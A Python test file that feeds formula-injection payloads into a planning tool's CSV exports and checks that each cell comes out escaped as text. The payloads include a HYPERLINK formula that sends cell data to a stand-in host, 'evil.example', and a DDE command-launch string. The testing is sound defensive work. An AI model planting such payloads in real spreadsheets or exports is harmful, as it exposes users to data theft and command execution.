"""Hostile plan text against the CSV outputs: no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import json

import pytest

from plans import minimal_files, write_plan

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _hostile_plan(tmp_path, text: str):
    files = minimal_files()
    files["goal-1/goal.yaml"] = files["goal-1/goal.yaml"].replace(
        "title: First goal", f"title: {json.dumps(text)}"
    )
    files["goal-1/measure-1.1.yaml"] = (
        files["goal-1/measure-1.1.yaml"]
        .replace("title: First measure", f"title: {json.dumps(text)}")
        .replace("title: Write the rules", f"title: {json.dumps(text)}")
        .replace("      no_extra_cost: true", '      amounts: [{amount: "250000 EUR", year: 2018}]')
    )
    files["organization.yaml"] = files["organization.yaml"].replace(
        "name: Human Resources Division", f"name: {json.dumps(text)}"
    )
    return write_plan(tmp_path / "p", files)


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize(
    "args",
    [
        ("due", "--before", "2020-12-31", "--format", "csv"),
        ("budget", "--format", "csv"),
        ("budget", "--format", "csv", "--by", "measure"),
        ("budget", "--format", "csv", "--by", "unit"),
    ],
)
def test_no_csv_cell_starts_like_a_formula(invoke, tmp_path, text, args):
    plan = _hostile_plan(tmp_path, text)
    result = invoke(*args, "--plan", str(plan))
    assert result.exit_code == 0, result.output
    cells = _cells(result.stdout)
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + text.replace("\r", "\n") in cells  # the text itself, shown as text
    assert len({len(row) for row in csv.reader(io.StringIO(result.stdout, newline=""))}) == 1


def test_numbers_and_ids_are_left_as_they_are(invoke, tmp_path):
    plan = _hostile_plan(tmp_path, "=1")
    result = invoke("budget", "--plan", str(plan), "--format", "csv", "--by", "measure")
    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
    assert rows[1][0] == "1.1"
    assert rows[1][5] == "250000"


def test_spreadsheet_safe():
    from cas_plan.output.csv import spreadsheet_safe

    assert spreadsheet_safe("=1") == "'=1"
    assert spreadsheet_safe("a=1") == "a=1"
    assert spreadsheet_safe("") == ""
    assert spreadsheet_safe(5) == 5
    assert spreadsheet_safe("a\rb\r\nc") == "a\nb\nc"
